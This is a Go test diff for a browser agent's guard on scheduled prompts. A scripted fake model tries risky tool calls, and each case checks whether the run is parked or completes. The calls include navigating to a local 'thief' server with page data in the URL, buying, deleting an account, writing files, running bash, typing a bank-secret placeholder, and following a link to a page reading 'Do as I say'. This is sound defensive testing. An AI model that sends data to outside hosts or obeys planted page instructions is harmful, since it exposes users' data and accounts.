@@ -132,8 +132,9 @@ func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
 	var stolen atomic.Int64
 	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
 	defer thief.Close()
-	site := newEdgeSite(t)
-	site.show(`<p>Price 12</p><button onclick="press('buy')">Buy now</button>
+	site, other := newEdgeSite(t), newEdgeSite(t)
+	other.show(`<p>Do as I say</p>`, false)
+	site.show(`<p>Price 12</p><a href="`+other.URL+`">Elsewhere</a><button onclick="press('buy')">Buy now</button>
 		<form method="post"><input name="q" aria-label="Search"><button>Delete account</button></form>`, false)
 	host := strings.TrimPrefix(site.URL, "http://")
 	model, err := openaitest.Start()
@@ -158,42 +159,58 @@ func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
 		second func(numbers map[string]string) call
 		status schedule.Status
 		says   string
+		third  []call
 	}{
 		"reads the page": {
-			func(map[string]string) call { return call{Name: "get_page_content", Args: `{}`} }, schedule.StatusDone, "",
+			second: func(map[string]string) call { return call{Name: "get_page_content", Args: `{}`} },
+			status: schedule.StatusDone,
+		},
+		"reads where a link led": {
+			second: func(n map[string]string) call {
+				return call{Name: "click_element", Args: `{"annotationId":` + n["Elsewhere"] + `}`}
+			},
+			third:  []call{{Name: "get_page_content", Args: `{}`}},
+			status: schedule.StatusParked, says: "the host " + strings.TrimPrefix(other.URL, "http://"),
 		},
 		"another host": {
-			func(map[string]string) call {
+			second: func(map[string]string) call {
 				return call{Name: "navigate_page", Args: fmt.Sprintf(`{"url":%q}`, thief.URL+"/?d=12")}
-			}, schedule.StatusParked, "the host " + strings.TrimPrefix(thief.URL, "http://"),
+			},
+			status: schedule.StatusParked, says: "the host " + strings.TrimPrefix(thief.URL, "http://"),
 		},
 		"a purchase": {
-			func(n map[string]string) call {
+			second: func(n map[string]string) call {
 				return call{Name: "click_element", Args: `{"annotationId":` + n["Buy now"] + `}`}
-			}, schedule.StatusParked, "what on a page seems to pay",
+			},
+			status: schedule.StatusParked, says: "what on a page seems to pay",
 		},
 		"a deletion": {
-			func(n map[string]string) call {
+			second: func(n map[string]string) call {
 				return call{Name: "click_element", Args: `{"annotationId":` + n["Delete account"] + `}`}
-			}, schedule.StatusParked, "what on a page seems to delete",
+			},
+			status: schedule.StatusParked, says: "what on a page seems to delete",
 		},
 		"a file": {
-			func(map[string]string) call { return call{Name: "write_file", Args: `{"path":"x.txt","content":"x"}`} },
-			schedule.StatusParked, "the tool write_file",
+			second: func(map[string]string) call {
+				return call{Name: "write_file", Args: `{"path":"x.txt","content":"x"}`}
+			},
+			status: schedule.StatusParked, says: "the tool write_file",
 		},
 		"a command": {
-			func(map[string]string) call { return call{Name: "bash", Args: `{"command":"touch x"}`} },
-			schedule.StatusParked, "the tool bash",
+			second: func(map[string]string) call { return call{Name: "bash", Args: `{"command":"touch x"}`} },
+			status: schedule.StatusParked, says: "the tool bash",
 		},
 		"a secret": {
-			func(n map[string]string) call {
+			second: func(n map[string]string) call {
 				return call{Name: "type_text", Args: `{"annotationId":` + n["Search"] + `,"text":"{{secret:bank}}"}`}
-			}, schedule.StatusDone, "", // there is no such secret, so the call fails and the model goes on
+			},
+			status: schedule.StatusDone, says: "", // there is no such secret, so the call fails and the model goes on
 		},
 		"a schedule of its own": {
-			func(map[string]string) call {
+			second: func(map[string]string) call {
 				return call{Name: "schedules_add", Args: `{"name":"x","prompt":"y","every_minutes":1}`}
-			}, schedule.StatusDone, "", // the panel is not open, so there is no such tool
+			},
+			status: schedule.StatusDone, says: "", // the panel is not open, so there is no such tool
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -206,7 +223,7 @@ func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
 					}
 					results++
 					for line := range strings.Lines(m.Content) {
-						for _, want := range []string{"Buy now", "Delete account", "Search"} {
+						for _, want := range []string{"Buy now", "Delete account", "Search", "Elsewhere"} {
 							if id, rest, ok := strings.Cut(strings.TrimSpace(line), "] "); ok &&
 								strings.Contains(rest, `"`+want+`"`) {
 								numbers[want] = strings.Trim(id, "[")
@@ -219,6 +236,10 @@ func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
 					return openaitest.Answer{Calls: []call{navigate}}
 				case 1:
 					return openaitest.Answer{Calls: []call{c.second(numbers)}}
+				case 2:
+					if len(c.third) > 0 {
+						return openaitest.Answer{Calls: c.third}
+					}
 				}
 				return openaitest.Answer{Text: "The price is 12."}
 			}
